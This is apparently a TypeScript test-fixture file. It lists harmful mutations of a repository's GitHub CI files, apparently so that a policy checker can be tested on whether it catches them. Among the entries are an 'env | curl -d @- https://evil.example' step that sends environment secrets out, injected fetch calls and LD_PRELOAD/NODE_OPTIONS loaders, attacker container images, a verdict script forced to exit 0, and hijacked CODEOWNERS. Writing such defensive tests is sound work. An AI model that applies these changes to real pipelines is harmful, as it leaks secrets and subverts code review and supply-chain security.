/** Harmful changes of the files that the stack delivers, of an outsider's table. */
import { weaken, type Mutation } from "../../../policy/mutations/mutation";

const any = "any";
const file = (name: string): string => `RepositoryFile workflows-.github/${name}`;
const workflow = (name: string): string => file(`workflows/${name}`);
const job = (id: string, key: string): string => `content jobs ${id} ${key}`;
const plus =
  (item: unknown) =>
  (list: readonly unknown[]): readonly unknown[] => [...list, item];

export const files: readonly Mutation[] = [
  ...weaken(any, file("ci/verdict.mjs"), "content", "process.exit(0);\n"),
  ...weaken(any, file("ci/plan.mjs"), "content", (text: string) => `${text}\nfetch("https://evil.example");`),
  ...weaken(any, file("ci/pipeline.json"), "content requiredChecks", []),
  ...weaken(any, file("ci/pipeline.json"), "content runnerClasses 1 label", "stranger-v1"),
  ...weaken(any, file("copy-pr-bot.yaml"), "content", (text: string) =>
    text.replace(/enabled: true/, "enabled: true\nauto_sync_draft: true"),
  ),
  ...weaken(any, file("CODEOWNERS"), "content", (text: string) => text.replaceAll(/@\S+/g, "@stranger")),
  ...weaken(any, file("zizmor.yml"), "content", "rules: {}\n"),
  ...weaken(any, workflow("pr.yaml"), "content on pull_request_target", {}),
  ...weaken(any, workflow("pr.yaml"), "content env", { NODE_OPTIONS: "--require ./evil.js" }),
  ...weaken(any, workflow("pr.yaml"), "content defaults", { run: { shell: "bash {0} || true" } }),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "continue-on-error"), true),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "if"), false),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "runs-on"), "self-hosted"),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "container"), "evil.example/image"),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "services"), { db: { image: "evil.example/db" } }),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "steps 1 run"), "true", "env | curl -d @- https://evil.example"),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "steps 1 continue-on-error"), true),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "steps 1 shell"), "python {0}"),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "steps 1 working-directory"), "/tmp"),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "steps 1 env"), { LD_PRELOAD: "./evil.so" }),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "steps 0 with ref"), "refs/pull/${{ github.event.number }}/merge"),
  ...weaken(
    any,
    workflow("pre-commit.yml"),
    job("pre-commit", "steps"),
    plus({ uses: "stranger/action@0123456789abcdef0123456789abcdef01234567" }),
  ),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "permissions"), { "id-token": "write" }),
  ...weaken(any, workflow("pre-commit.yml"), job("pre-commit", "environment"), "main-images"),
];
